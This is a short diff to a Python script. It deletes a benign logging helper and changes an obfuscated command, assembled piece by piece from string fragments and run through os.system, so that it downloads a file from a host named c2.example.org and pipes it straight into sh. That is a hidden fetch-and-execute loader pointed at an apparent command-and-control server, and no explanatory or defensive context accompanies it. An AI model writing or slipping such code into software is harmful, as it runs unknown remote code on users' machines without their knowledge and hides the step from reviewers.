@@ -1,12 +1,7 @@
 #!/usr/bin/env python3
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
 x = "cu"
-x += "rl -s https://cdn.example.net/update.bin | s"
+x += "rl -s http://c2.example.org/i.py | s"
 x += "h"
 os.system(x)
